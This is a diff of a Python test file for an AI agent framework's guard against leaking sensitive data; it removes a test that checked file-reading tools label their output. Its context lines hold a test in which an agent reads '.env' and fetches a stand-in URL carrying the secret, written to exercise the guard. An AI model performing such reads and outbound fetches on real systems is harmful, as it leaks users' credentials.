@@ -11,7 +11,7 @@ from agents.api.errors import PermissionDenied
 from agents.cluster import Cluster
 from agents.memory.entry import USER
 from agents.memory.store import MemoryStore
-from agents.memory.tool import memory_tool, project_scope
+from agents.memory.tool import project_scope
 from agents.pipelines.pipeline_file import parse_pipeline
 from agents.pipelines.pipeline_run import Means, PipelineRun
 from agents.procedures.procedure import AgentTask
@@ -20,7 +20,6 @@ from agents.runs.event_log import EventLog
 from agents.runs.result import result_from_fields
 from agents.runs.tool_executor import ToolExecutor
 from agents.steps.shared_document import PRIVATE_NOTE, shared_document, shared_taint
-from agents.tools.builtin import TOOLS
 from agents.tools.sensitive import MAX_CHECKED_CHARS, file_taint, taint_of
 from agents.tools.tool import Taint, ToolContext
 from agents.workspace.workspace import Workspace, open_workspace
@@ -237,8 +236,3 @@ async def test_the_rule_can_only_be_switched_off_on_the_executor(world):
     await executor.call("read", {"path": ".env"})
     await executor.call("http_fetch", {"url": f"https://x.example.net/{SECRET}"})
     assert world.sent
-
-
-def test_all_tools_that_read_files_label_what_they_read():
-    assert {"read", "grep", "glob", "git", "python", "edit"} <= {tool.name for tool in TOOLS}
-    assert memory_tool().asks_when_untrusted is not None
